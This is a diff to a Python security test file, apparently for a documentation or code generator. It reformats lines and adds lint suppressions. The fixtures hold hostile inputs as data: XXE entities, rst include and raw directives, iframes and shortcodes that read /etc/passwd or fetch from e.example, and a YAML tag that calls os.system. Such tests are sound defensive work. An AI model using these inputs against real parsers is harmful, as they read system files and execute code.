@@ -63,7 +63,8 @@ WORDS = ("title", "function", "parameter", "description", "meaning", "field", "s
 WORST = [
     payload
     for payload in PAYLOADS
-    if payload.name in {"docstring-escape", "quote-call", "jinja-expression", "format-braces", "script", "way-up", "toml"}
+    if payload.name
+    in {"docstring-escape", "quote-call", "jinja-expression", "format-braces", "script", "way-up", "toml"}
 ]
 
 by_payload = pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload.name)
@@ -150,7 +151,7 @@ def test_nothing_is_written_outside_the_target(payload: Payload, tmp_path: Path)
 def test_importing_runs_nothing_but_definitions(tmp_path: Path) -> None:
     packages = {payload.name: emitted(attack(payload)) for payload in PAYLOADS}
     told = imported(tmp_path, OPTIONS.module, harmless("harmlessWord"), packages)
-    assert told.keys() == packages.keys()
+    assert told.keys() == {"harmless", *packages}
     assert {name: said for name, said in told.items() if said} == {}
 
 
@@ -192,16 +193,16 @@ def _watch(event: str, arguments: tuple[object, ...]) -> None:
 sys.addaudithook(_watch)
 
 TAKING_IN = {
-    "include.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. include:: /etc/passwd\n\n.. literalinclude:: /etc/passwd\n",
-    "raw.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. raw:: html\n   :file: /etc/passwd\n\n.. raw:: html\n   :url: http://e.example\n",
-    "csv.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. csv-table:: x\n   :file: /etc/passwd\n\n.. csv-table:: x\n   :url: http://e.example\n",
-    "role.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>` :download:`/etc/passwd`\n",
-    "entity.html": '<!DOCTYPE h [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://e.example/x.dtd"> %p;]>'
+    "include.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. include:: /etc/passwd\n\n.. literalinclude:: /etc/passwd\n",  # noqa: E501
+    "raw.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. raw:: html\n   :file: /etc/passwd\n\n.. raw:: html\n   :url: http://e.example\n",  # noqa: E501
+    "csv.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. csv-table:: x\n   :file: /etc/passwd\n\n.. csv-table:: x\n   :url: http://e.example\n",  # noqa: E501
+    "role.rst": "Tide\n====\n\nURI\n---\n\nGET /v1/tides\n\n.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>` :download:`/etc/passwd`\n",  # noqa: E501
+    "entity.html": '<!DOCTYPE h [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://e.example/x.dtd"> %p;]>'  # noqa: E501
     "<h1>Tide &e;</h1><h4>URI</h4><p>GET /v1/tides</p>",
     "frame.html": '<h1>Tide</h1><h4>URI</h4><p>GET /v1/tides</p><iframe src="file:///etc/passwd"></iframe>'
     '<xi:include href="file:///etc/passwd" parse="text"/><link rel="import" href="http://e.example">',
-    "matter.md": "---\ntitle: !!python/object/apply:os.system ['touch pwned']\nx: &a [*a]\n---\n# Tide\n\n## URI\n\nGET /v1/tides\n",
-    "shortcode.md": '# Tide\n\n## URI\n\nGET /v1/tides\n\n{{< readfile "/etc/passwd" >}}\n\n{{% include "/etc/passwd" %}}\n',
+    "matter.md": "---\ntitle: !!python/object/apply:os.system ['touch pwned']\nx: &a [*a]\n---\n# Tide\n\n## URI\n\nGET /v1/tides\n",  # noqa: E501
+    "shortcode.md": '# Tide\n\n## URI\n\nGET /v1/tides\n\n{{< readfile "/etc/passwd" >}}\n\n{{% include "/etc/passwd" %}}\n',  # noqa: E501
 }
 
 
